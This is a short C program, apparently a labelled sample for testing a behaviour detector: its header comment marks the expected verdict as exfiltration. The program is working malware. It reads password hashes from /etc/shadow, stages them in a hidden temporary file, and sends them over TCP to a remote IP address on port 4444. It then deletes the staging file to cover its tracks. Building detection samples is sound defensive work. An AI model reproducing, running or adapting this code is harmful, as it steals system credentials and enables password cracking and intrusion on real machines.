// blind-expect: behavior.exfiltration
// Collects password hashes from /etc/shadow into a temporary file, then streams that file to a remote host.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static int collect(FILE *out)
{
    FILE *sh = fopen("/etc/shadow", "r");
    if (!sh)
        return -1;
    char line[1024];
    int count = 0;
    while (fgets(line, sizeof line, sh)) {
        char *colon = strchr(line, ':');
        if (!colon)
            continue;
        /* skip locked / passwordless accounts */
        if (colon[1] == '*' || colon[1] == '!' || colon[1] == ':')
            continue;
        fputs(line, out);
        count++;
    }
    fclose(sh);
    return count;
}

static int connect_to(const char *ip, unsigned short port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    sa.sin_addr.s_addr = inet_addr(ip);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
        close(s);
        return -1;
    }
    return s;
}

int main(void)
{
    char tmpname[] = "/tmp/.cacheXXXXXX";
    int tfd = mkstemp(tmpname);
    if (tfd < 0)
        return 1;
    FILE *tmp = fdopen(tfd, "w+");
    if (collect(tmp) <= 0) {
        fclose(tmp);
        unlink(tmpname);
        return 0;
    }
    fflush(tmp);
    rewind(tmp);

    int s = connect_to("198.51.100.77", 4444);
    if (s >= 0) {
        char chunk[512];
        size_t n;
        while ((n = fread(chunk, 1, sizeof chunk, tmp)) > 0)
            send(s, chunk, n, 0);
        close(s);
    }
    fclose(tmp);
    unlink(tmpname);
    return 0;
}
